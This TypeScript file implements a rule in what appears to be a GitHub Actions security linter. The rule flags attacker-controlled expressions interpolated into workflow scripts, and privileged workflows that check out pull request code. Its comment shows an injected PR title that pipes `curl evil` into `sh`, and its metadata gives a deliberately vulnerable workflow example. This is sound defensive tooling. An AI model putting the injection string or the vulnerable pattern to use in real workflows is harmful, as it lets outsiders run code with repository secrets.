/**
 * MD-007 — untrusted input executed.
 *
 * Two shapes of the same mistake: data or code controlled by whoever opens a pull request, an
 * issue or a comment ends up being executed by a workflow that holds the base repository's token
 * and secrets.
 *
 * 1. **Expression injection** (high). `${{ … }}` is substituted into the script text *before* the
 *    shell (or `actions/github-script`) parses it, so an expression whose value an outsider
 *    controls is code injection: a pull request titled `a"; curl evil | sh; echo "` runs. Checked
 *    sinks: `run:` of workflow and composite-action steps, and the `script:` input of
 *    `actions/github-script`. Attacker-controlled values (see `TAINTED`): PR/issue/discussion
 *    title and body, PR head ref/label and head-repository branch/description, comment, review
 *    and review-comment bodies, wiki page names, commit messages and author/committer names and
 *    e-mails (push, merge_group, workflow_run), `github.head_ref`, `workflow_run`/`check_suite`
 *    head branches and titles, and whole objects containing them passed to `toJSON()`.
 *    - Passing the value through `env:` and reading it as `"$VAR"` (or `process.env.VAR`) is the
 *      safe pattern and stays silent. Reading it back as `${{ env.VAR }}` is injection again and is
 *      reported, naming the `env:` entry.
 *    - Expressions whose result is a boolean (`contains(…)`, `startsWith(…)`, comparisons, `!x`)
 *      are safe, and so is everything else: `github.sha`, `github.event.pull_request.number`,
 *      `steps.*.outcome`, `inputs.*` (set by people with write access or by the caller).
 *    Subject `<job>:<step>:injection` (`<step>` = step id, else name, else `#<index>`).
 *
 * 2. **Checkout of the pull request's code in a privileged workflow** (`pull_request_target`,
 *    `workflow_run`): `actions/checkout` with `ref:` from the PR head
 *    (`github.event.pull_request.head.sha|ref`, `github.head_ref`, `merge_commit_sha`,
 *    `refs/pull/…`, `github.event.workflow_run.head_sha|head_branch`) or `repository:` of the head
 *    repository, or a `run:` step doing `gh pr checkout` / `git fetch|checkout … pull/…`.
 *    - **critical** when a later step of the job runs code: any `run:` step, a local `./` action
 *      (loaded from the checked-out tree) or a known build action (`docker/build-push-action`,
 *      CodeQL autobuild, `cypress-io/github-action`, …);
 *    - **high** when only other third-party actions follow (they may run the checked-out code —
 *      install scripts, configuration files — and the rule cannot tell);
 *    - **medium** when nothing that could run it follows (only known-inert actions such as
 *      `actions/upload-artifact`, or nothing at all): the checkout itself is not execution, but the
 *      token persisted by `actions/checkout` sits next to untrusted files.
 *    A job (or checkout step) whose `if:` restricts it to same-repository pull requests
 *    (`github.event.pull_request.head.repo.full_name == github.repository`, `…head.repo.fork ==
 *    false`) or to merged pull requests (`github.event.pull_request.merged == true`) is safe and
 *    silent; a condition with `||` is not trusted to be such a guard. Subject `<job>:pr-head-checkout`.
 *
 * Files that did not parse (MD-000) are skipped. Linear in the size of each workflow.
 */
import type { Severity } from '../model/common.js';
import type { Evidence, FindingDraft, Rule, RuleMeta } from '../model/finding.js';
import type { GovernanceSnapshot } from '../model/snapshot.js';
import type { Job, Step, WorkflowFile } from '../model/workflow.js';
import { scriptLine, stepKey } from './md-002-unpinned-execution.js';
import { actionName, matchesAction } from './md-004-over-privileged-token.js';

export const meta: RuleMeta = {
  id: 'MD-007',
  version: '1.0.0',
  title: 'Untrusted input executed',
  severity: 'high',
  confidence: 'high',
  defaultAction: 'block',
  fpCeiling: 0.1,
  motivation:
    'GitHub substitutes `${{ … }}` into a script before the shell reads it, so a pull request title, ' +
    'branch name, issue body or commit message written by an outsider becomes shell code in your ' +
    'workflow. And `pull_request_target` / `workflow_run` workflows run with the base repository\'s ' +
    'token and secrets: checking out the pull request\'s code there and then building or testing it ' +
    'hands those secrets to whoever opened the pull request ("pwn request"). Both have been used to ' +
    'steal publishing tokens and push malicious releases of popular projects.',
  description:
    'Reports (1) attacker-controlled expressions — pull request, issue, discussion and comment titles ' +
    'and bodies, head branch names and labels, commit messages and author fields, wiki page names, ' +
    '`github.head_ref` — interpolated into `run:` scripts or the `script:` of `actions/github-script`, ' +
    'directly or through an `env:` entry read back as `${{ env.X }}` (high); reading the value as ' +
    '`"$X"` from `env:` is the safe pattern and is not reported, nor are booleans (`contains(…)`, ' +
    'comparisons) or values outsiders cannot shape (`github.sha`, `github.event.pull_request.number`, ' +
    '`steps.*.outcome`); and (2) `pull_request_target` / `workflow_run` jobs that check out the pull ' +
    'request head (`ref:` from `github.event.pull_request.head.*`, `github.head_ref`, ' +
    '`refs/pull/…`, the `workflow_run` head, or the head repository) and then run code from it: ' +
    'critical when a `run:` step, a local action or a build action follows, high when only other ' +
    'third-party actions follow, medium when nothing follows. Jobs guarded to same-repository or ' +
    'merged pull requests are not reported.',
  remediation:
    'Never put untrusted expressions inside scripts: pass them through `env:` and quote the variable ' +
    '(`env: { TITLE: ${{ github.event.pull_request.title }} }` and `run: echo "$TITLE"`; in ' +
    'github-script read `process.env.TITLE`). In `pull_request_target` / `workflow_run` workflows do ' +
    'not check out and run the pull request\'s code: use `pull_request` for builds and tests (no ' +
    'secrets, read-only token), and if results must be published with privileges, upload them as an ' +
    'artifact and process them as data in a separate `workflow_run` job. If the checkout is needed, ' +
    'restrict the job to same-repository pull requests ' +
    '(`if: github.event.pull_request.head.repo.full_name == github.repository`) and set ' +
    '`persist-credentials: false`.',
  example: [
    'on: pull_request_target',
    'jobs:',
    '  test:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    '      - uses: actions/checkout@v4',
    '        with:',
    '          ref: ${{ github.event.pull_request.head.sha }}   # the contributor\'s code',
    '      - run: npm ci && npm test                          # runs it with the base token and secrets',
    '      - run: echo "Testing ${{ github.event.pull_request.title }}"   # injection'
  ].join('\n')
};

// ---------------------------------------------------------------------------------------------
// Taint

/** Attacker-controlled context paths (normalised: lower case, `[n]`/`.*` → `.*`). */
const TAINTED: readonly RegExp[] = [
  /^github\.head_ref$/,
  /^github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)$/,
  /^github\.event\.pull_request\.head\.(?:ref|label)$/,
  /^github\.event\.pull_request\.head\.repo\.(?:default_branch|description|homepage)$/,
  /^github\.event\.(?:comment|review|review_comment)\.body$/,
  /^github\.event\.pages\.\*\.page_name$/,
  /^github\.event\.commits\.\*\.(?:message|author\.(?:email|name)|committer\.(?:email|name))$/,
  /^github\.event\.(?:head_commit|merge_group\.head_commit|workflow_run\.head_commit)\.(?:message|author\.(?:email|name)|committer\.(?:email|name))$/,
  /^github\.event\.workflow_run\.(?:head_branch|display_title|pull_requests\.\*\.head\.ref)$/,
  /^github\.event\.workflow_run\.head_repository\.description$/,
  /^github\.event\.(?:check_suite|check_run\.check_suite)\.head_branch$/
];

/** Objects that contain attacker-controlled fields: tainted when serialised whole (`toJSON(…)`). */
const TAINTED_OBJECTS: ReadonlySet<string> = new Set([
  'github',
  'github.event',
  'github.event.issue',
  'github.event.pull_request',
  'github.event.pull_request.head',
  'github.event.pull_request.head.repo',
  'github.event.discussion',
  'github.event.comment',
  'github.event.review',
  'github.event.review_comment',
  'github.event.pages',
  'github.event.pages.*',
  'github.event.commits',
  'github.event.commits.*',
  'github.event.commits.*.author',
  'github.event.head_commit',
  'github.event.head_commit.author',
  'github.event.merge_group',
  'github.event.merge_group.head_commit',
  'github.event.workflow_run',
  'github.event.workflow_run.head_commit',
  'github.event.workflow_run.pull_requests',
  'github.event.check_suite'
]);

/** Context references inside an expression: `github.…`, `env.X`, with `[…]` index forms. */
const REF = /(?<![\w.])(github|env)((?:\s*\.\s*[A-Za-z_*][\w-]*|\s*\[\s*(?:'[^']*'|"[^"]*"|\d+|\*)\s*\])*)/gi;

function normaliseRef(root: string, rest: string): string {
  const tail = rest
    .replace(/\s+/g, '')
    .replace(/\[(?:\d+|\*)\]/g, '.*')
    .replace(/\[['"]([^'"]*)['"]\]/g, '.$1');
  return (root + tail).toLowerCase();
}

const isTaintedPath = (p: string): boolean => TAINTED.some((re) => re.test(p));

/** A tainted source: the context path, or `env.X` with the path it carries. */
interface Taint {
  ref: string;
  via?: { env: string; from: string };
}

/** Split at top-level `&&` / `||`, respecting parentheses and string literals. */
function splitLogical(expr: string): string[] {
  const out: string[] = [];
  let depth = 0;
  let start = 0;
  for (let i = 0; i < expr.length; i++) {
    const c = expr[i];
    if (c === "'") {
      // GitHub expressions escape a quote by doubling it: the scan just continues after the pair.
      const end = expr.indexOf("'", i + 1);
      i = end === -1 ? expr.length : end;
      continue;
    }
    if (c === '(' || c === '[') depth++;
    else if (c === ')' || c === ']') depth--;
    else if (depth === 0 && (c === '&' || c === '|') && expr[i + 1] === c) {
      out.push(expr.slice(start, i));
      start = i + 2;
      i++;
    }
  }
  out.push(expr.slice(start));
  return out;
}

/** Strip parentheses that wrap the whole operand. */
function unwrap(s: string): string {
  let t = s.trim();
  while (t.startsWith('(') && t.endsWith(')')) {
    let depth = 0;
    let wraps = true;
    for (let i = 0; i < t.length - 1; i++) {
      if (t[i] === '(') depth++;
      else if (t[i] === ')') depth--;
      if (depth === 0) {
        wraps = false;
        break;
      }
    }
    if (!wraps) break;
    t = t.slice(1, -1).trim();
  }
  return t;
}

/** Blank out string literals (they are not references), except index keys (`github.event['pull_request']`). */
function stripLiterals(s: string): string {
  if (!s.includes("'")) return s;
  let out = '';
  let i = 0;
  while (i < s.length) {
    const q = s.indexOf("'", i);
    if (q === -1) {
      out += s.slice(i);
      break;
    }
    out += s.slice(i, q);
    let end = q + 1;
    for (;;) {
      const e = s.indexOf("'", end);
      if (e === -1) {
        end = s.length;
        break;
      }
      if (s[e + 1] === "'") {
        end = e + 2;
        continue;
      }
      end = e + 1;
      break;
    }
    const index = /\[\s*$/.test(out);
    out += index ? s.slice(q, end) : "''";
    i = end;
  }
  return out;
}

const BOOLEAN_CALL = /^(?:contains|startswith|endswith|success|failure|always|cancelled|hashfiles)\s*\(/i;

/** Outside of string literals, does the operand compare (`==`, `!=`, `<`, `>`, `<=`, `>=`)? */
function hasComparison(s: string): boolean {
  return /==|!=|<|>/.test(stripLiterals(s).replace(/\[\s*'[^']*'\s*\]/g, ''));
}

/**
 * Tainted references whose value can reach the result of the expression. Booleans (comparisons,
 * `!x`, `contains(…)` …) cannot carry the attacker's text and are skipped.
 */
export function taintedRefs(expr: string, env: ReadonlyMap<string, Taint>): Taint[] {
  const out: Taint[] = [];
  const visit = (operand: string, depth: number): void => {
    const t = unwrap(operand);
    if (t === '') return;
    const parts = splitLogical(t);
    if (parts.length > 1 && depth < 20) {
      for (const p of parts) visit(p, depth + 1);
      return;
    }
    if (t.startsWith('!') || hasComparison(t) || BOOLEAN_CALL.test(t)) return;
    const serialises = /\btojson\s*\(/i.test(t);
    const bare = stripLiterals(t);
    REF.lastIndex = 0;
    for (let m = REF.exec(bare); m; m = REF.exec(bare)) {
      const path = normaliseRef(m[1], m[2]);
      if (path.startsWith('env.')) {
        const name = path.slice(4).split('.')[0];
        const hit = [...env.entries()].find(([k]) => k.toLowerCase() === name);
        if (hit) out.push({ ref: `env.${hit[0]}`, via: { env: hit[0], from: hit[1].ref } });
      } else if (isTaintedPath(path) || (serialises && TAINTED_OBJECTS.has(path))) {
        out.push({ ref: path });
      }
    }
  };
  visit(expr, 0);
  return out;
}

const EXPRESSION = /\$\{\{([\s\S]*?)\}\}/g;

interface ExprHit {
  taint: Taint;
  /** Offset of the `${{` in the text. */
  offset: number;
}

function scanText(text: string, env: ReadonlyMap<string, Taint>): ExprHit[] {
  if (!text.includes('${{')) return [];
  const out: ExprHit[] = [];
  EXPRESSION.lastIndex = 0;
  for (let m = EXPRESSION.exec(text); m; m = EXPRESSION.exec(text)) {
    for (const taint of taintedRefs(m[1], env)) out.push({ taint, offset: m.index });
  }
  return out;
}

/** `env:` entries whose value carries a tainted expression, on top of the outer scope's. */
function envScope(outer: ReadonlyMap<string, Taint>, env: Record<string, { value: string }>): ReadonlyMap<string, Taint> {
  const keys = Object.keys(env);
  if (keys.length === 0) return outer;
  const scope = new Map(outer);
  for (const k of keys) {
    const hits = scanText(env[k].value, outer);
    if (hits.length > 0) {
      const t = hits[0].taint;
      scope.set(k, { ref: t.via ? t.via.from : t.ref });
    } else scope.delete(k);
  }
  return scope;
}

// ---------------------------------------------------------------------------------------------
// PR head checkout

const HEAD_REF =
  /github\s*\.\s*event\s*\.\s*pull_request\s*\.\s*head\s*\.\s*(?:sha|ref|repo\s*\.\s*full_name)|github\s*\.\s*head_ref|github\s*\.\s*event\s*\.\s*pull_request\s*\.\s*merge_commit_sha|github\s*\.\s*event\s*\.\s*workflow_run\s*\.\s*(?:head_sha|head_branch|head_commit\s*\.\s*id|head_repository\s*\.\s*full_name|pull_requests\s*\[[^\]]*\]\s*\.\s*head\s*\.\s*(?:sha|ref))|refs\/pull\//i;
const RUN_CHECKOUT = /\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|checkout|switch|pull|reset|worktree)\b[^\n]*(?:\bpull\/|refs\/pull\/|\$\{\{[^}]*(?:head\.sha|head\.ref|head_ref|head_sha|head_branch|merge_commit_sha))/i;

const SAME_REPO_GUARD =
  /github\.event\.pull_request\.head\.repo\.full_name\s*==\s*github\.repository\b|github\.repository\s*==\s*github\.event\.pull_request\.head\.repo\.full_name|github\.event\.pull_request\.head\.repo\.fork\s*==\s*false|!\s*github\.event\.pull_request\.head\.repo\.fork\b|github\.event\.workflow_run\.head_repository\.full_name\s*==\s*github\.repository\b|github\.repository\s*==\s*github\.event\.workflow_run\.head_repository\.full_name|github\.event\.workflow_run\.head_repository\.fork\s*==\s*false|github\.event\.pull_request\.head\.repo\.owner\.login\s*==\s*github\.repository_owner|github\.event\.pull_request\.merged\s*==\s*true|^\s*(?:\$\{\{)?\s*github\.event\.pull_request\.merged\s*(?:\}\})?\s*$/i;

function guarded(cond: string | undefined): boolean {
  if (!cond) return false;
  if (cond.includes('||')) return false;
  return SAME_REPO_GUARD.test(cond);
}

/** Actions that run the checked-out project's code. */
const BUILD_ACTIONS: readonly string[] = [
  'github/codeql-action/autobuild',
  'docker/build-push-action',
  'docker/bake-action',
  'cypress-io/github-action',
  'pre-commit/action',
  'gradle/gradle-build-action',
  'gradle/actions/setup-gradle',
  'borales/actions-yarn',
  'bahmutov/npm-install',
  'nick-fields/retry',
  'nick-invision/retry',
  'goreleaser/goreleaser-action',
  'coactions/setup-xvfb',
  'gabrielbb/xvfb-action',
  'microsoft/playwright-github-action',
  'dagger/dagger-for-github',
  'jetbrains/qodana-action'
];

/** Actions that do not execute files from the workspace. */
const INERT_ACTIONS: readonly string[] = [
  'actions/checkout',
  'actions/upload-artifact',
  'actions/download-artifact',
  'actions/cache',
  'actions/labeler',
  'actions/github-script',
  'actions/create-github-app-token',
  'peter-evans/create-or-update-comment',
  'peter-evans/find-comment',
  'marocchino/sticky-pull-request-comment',
  'thollander/actions-comment-pull-request',
  'dorny/paths-filter',
  'tj-actions/changed-files',
  'step-security/harden-runner',
  'actions/setup-node',
  'actions/setup-python',
  'actions/setup-go',
  'actions/setup-java',
  'actions/setup-dotnet'
];

function matchesAny(name: string, list: readonly string[]): boolean {
  return list.some((p) => matchesAction(name, p));
}

function isCheckoutAction(step: Step): boolean {
  const n = step.uses ? actionName(step.uses.value) : undefined;
  return n !== undefined && matchesAction(n, 'actions/checkout');
}

/** Does this step check out the PR head? Returns the evidence line and what was checked out. */
function prHeadCheckout(step: Step, headEnv: ReadonlySet<string>): { line: number; what: string } | undefined {
  const viaEnv = (v: string): boolean => {
    if (headEnv.size === 0 || !/\benv\s*\./i.test(v)) return false;
    const names = [...v.matchAll(/\benv\s*\.\s*([A-Za-z_][\w-]*)/gi)].map((m) => m[1].toLowerCase());
    return names.some((n) => headEnv.has(n));
  };
  if (isCheckoutAction(step)) {
    for (const key of ['ref', 'repository']) {
      const w = step.with[key];
      if (w && (HEAD_REF.test(w.value) || viaEnv(w.value))) return { line: w.line, what: `\`${key}: ${w.value.trim()}\`` };
    }
    return undefined;
  }
  const run = step.run;
  if (run) {
    const lines = run.value.split('\n');
    for (let k = 0; k < lines.length; k++) {
      if (RUN_CHECKOUT.test(lines[k])) return { line: scriptLine(run, k), what: `\`${lines[k].trim().slice(0, 160)}\`` };
    }
  }
  return undefined;
}

type Execution = { level: 'run' | 'unknown'; step: Step; why: string };

function execution(step: Step): Execution | undefined {
  if (step.run) return { level: 'run', step, why: 'a `run:` step' };
  if (!step.uses) return undefined;
  const u = step.uses.value.trim();
  if (u.startsWith('./') || u.startsWith('$/')) return { level: 'run', step, why: `the local action \`${u}\`, loaded from the checked-out tree` };
  const name = actionName(u);
  if (!name) return { level: 'unknown', step, why: `\`${u}\`` };
  if (matchesAny(name, BUILD_ACTIONS)) return { level: 'run', step, why: `\`${u}\`, which builds or runs the project` };
  if (matchesAction(name, 'ruby/setup-ruby') && /^true$/i.test(step.with['bundler-cache']?.value.trim() ?? '')) {
    return { level: 'run', step, why: `\`${u}\` with \`bundler-cache: true\` (runs \`bundle install\`, which evaluates the Gemfile)` };
  }
  if (matchesAction(name, 'pnpm/action-setup') && step.with['run_install'] && !/^false$/i.test(step.with['run_install'].value.trim())) {
    return { level: 'run', step, why: `\`${u}\` with \`run_install\` (runs install scripts)` };
  }
  if (matchesAny(name, INERT_ACTIONS)) return undefined;
  return { level: 'unknown', step, why: `\`${u}\`` };
}

// ---------------------------------------------------------------------------------------------
// Evaluation

function label(wf: WorkflowFile, job: Job): string {
  return wf.kind === 'action' ? `composite action \`${wf.path}\`` : `job \`${job.id}\` of \`${wf.path}\``;
}

function stepLabel(step: Step): string {
  return step.id || step.name ? `step \`${stepKey(step)}\`` : `step ${step.index + 1}`;
}

function describeTaint(t: Taint): string {
  return t.via ? `\`\${{ env.${t.via.env} }}\` (set from \`${t.via.from}\`)` : `\`\${{ ${t.ref} }}\``;
}

function injectionFindings(wf: WorkflowFile, job: Job, wfEnv: ReadonlyMap<string, Taint>, out: FindingDraft[]): void {
  const jobEnv = envScope(wfEnv, job.env);
  for (const step of job.steps) {
    const sinks: { kind: 'run' | 'script'; value: string; line: number }[] = [];
    if (step.run) sinks.push({ kind: 'run', value: step.run.value, line: step.run.line });
    const name = step.uses ? actionName(step.uses.value) : undefined;
    if (name && matchesAction(name, 'actions/github-script') && step.with.script) sinks.push({ kind: 'script', ...step.with.script });
    if (sinks.length === 0) continue;
    if (!sinks.some((s) => s.value.includes('${{'))) continue;
    const env = envScope(jobEnv, step.env);
    const hits: { taint: Taint; line: number; kind: 'run' | 'script' }[] = [];
    for (const sink of sinks) {
      for (const h of scanText(sink.value, env)) {
        let nl = 0;
        for (let q = sink.value.indexOf('\n'); q !== -1 && q < h.offset; q = sink.value.indexOf('\n', q + 1)) nl++;
        hits.push({ taint: h.taint, line: scriptLine(sink, nl), kind: sink.kind });
      }
    }
    if (hits.length === 0) continue;
    const seen = new Set<string>();
    const unique = hits.filter((h) => (seen.has(h.taint.ref) ? false : (seen.add(h.taint.ref), true)));
    const where = hits[0].kind === 'script' ? 'the `script:` of `actions/github-script`' : 'a `run:` script';
    const refs = unique.map((h) => describeTaint(h.taint)).join(', ');
    const envName = (h: (typeof unique)[number]): string => (h.taint.via ? h.taint.via.env : h.taint.ref.split('.').pop()?.toUpperCase().replace(/[^A-Z0-9_]/g, '_') ?? 'VALUE');
    const example = unique[0];
    const fix =
      hits[0].kind === 'script'
        ? `Pass the value through \`env:\` and read \`process.env.${envName(example)}\` in the script instead of interpolating it.`
        : `Pass the value through \`env:\` (\`${envName(example)}: \${{ ${example.taint.via ? example.taint.via.from : example.taint.ref} }}\`) and use \`"$${envName(example)}"\` in the script${example.taint.via ? `, not \`\${{ env.${example.taint.via.env} }}\`` : ''}.`;
    const evidence: Evidence[] = [];
    for (const h of hits) if (!evidence.some((e) => e.line === h.line)) evidence.push({ path: wf.path, line: h.line });
    out.push({
      subject: `${job.id}:${stepKey(step)}:injection`,
      path: wf.path,
      severity: 'high',
      confidence: 'high',
      title: 'Attacker-controlled expression interpolated into code',
      message:
        `${stepLabel(step)[0].toUpperCase()}${stepLabel(step).slice(1)} in ${label(wf, job)} interpolates ${refs} into ${where}. ` +
        'GitHub substitutes the text before the script is parsed, so whoever writes that value (a pull request title, a branch name, a comment) injects code that runs with the job\'s token and secrets. ' +
        fix,
      evidence
    });
  }
}

function checkoutFindings(wf: WorkflowFile, job: Job, privileged: string, out: FindingDraft[]): void {
  if (job.uses || job.steps.length === 0 || guarded(job.if?.value)) return;
  // Env entries that carry a PR-head ref (`PR_SHA: ${{ github.event.pull_request.head.sha }}`).
  const headEnvOf = (env: Record<string, { value: string }>, into: Set<string>): void => {
    for (const k of Object.keys(env)) if (HEAD_REF.test(env[k].value)) into.add(k.toLowerCase());
  };
  const jobHeadEnv = new Set<string>();
  headEnvOf(wf.env, jobHeadEnv);
  headEnvOf(job.env, jobHeadEnv);

  let checkout: { step: Step; line: number; what: string } | undefined;
  let run: Execution | undefined;
  let unknown: Execution | undefined;
  for (const step of job.steps) {
    if (!checkout) {
      let headEnv: ReadonlySet<string> = jobHeadEnv;
      if (Object.keys(step.env).length > 0) {
        const s = new Set(jobHeadEnv);
        headEnvOf(step.env, s);
        headEnv = s;
      }
      const c = prHeadCheckout(step, headEnv);
      if (c && !guarded(step.if?.value)) checkout = { step, ...c };
      continue;
    }
    const e = execution(step);
    if (!e) continue;
    if (e.level === 'run') {
      run = e;
      break;
    }
    unknown ??= e;
  }
  if (!checkout) return;
  const evidence: Evidence[] = [{ path: wf.path, line: checkout.line }];
  let severity: Severity;
  let tail: string;
  if (run) {
    severity = 'critical';
    const at = run.step.run?.line ?? run.step.uses?.line ?? run.step.line;
    evidence.push({ path: wf.path, line: at });
    tail = `and then runs it in ${stepLabel(run.step)} (${run.why}). Anyone who opens a pull request runs code with this job's token and secrets.`;
  } else if (unknown) {
    severity = 'high';
    evidence.push({ path: wf.path, line: unknown.step.uses?.line ?? unknown.step.line });
    tail = `and then uses ${unknown.why}, which may execute files from the checked-out tree (install scripts, configuration, build files); pm-action cannot tell whether it does.`;
  } else {
    severity = 'medium';
    tail =
      'but no later step appears to run it. The checkout itself puts untrusted files (and, unless `persist-credentials: false`, the token) in the workspace, so any step added later runs the contributor\'s code with the base repository\'s privileges.';
  }
  out.push({
    subject: `${job.id}:pr-head-checkout`,
    path: wf.path,
    severity,
    confidence: severity === 'high' ? 'medium' : 'high',
    title: severity === 'critical' ? 'Privileged workflow runs pull request code' : 'Privileged workflow checks out pull request code',
    message: `Job \`${job.id}\` of \`${wf.path}\` runs on ${privileged} and checks out the pull request's code with ${checkout.what} in ${stepLabel(checkout.step)} ${tail}`,
    evidence
  });
}

export function evaluate(snapshot: GovernanceSnapshot): FindingDraft[] {
  const out: FindingDraft[] = [];
  for (const wf of snapshot.workflows) {
    if (wf.parseError) continue;
    const wfEnv = envScope(new Map(), wf.env);
    const events = new Set(wf.triggers.map((t) => t.event));
    const privileged = ['pull_request_target', 'workflow_run'].filter((e) => events.has(e)).map((e) => `\`${e}\``).join(' and ');
    for (const job of wf.jobs) {
      injectionFindings(wf, job, wfEnv, out);
      if (wf.kind === 'workflow' && privileged) checkoutFindings(wf, job, privileged, out);
    }
  }
  return out;
}

export const rule: Rule = { meta, evaluate };
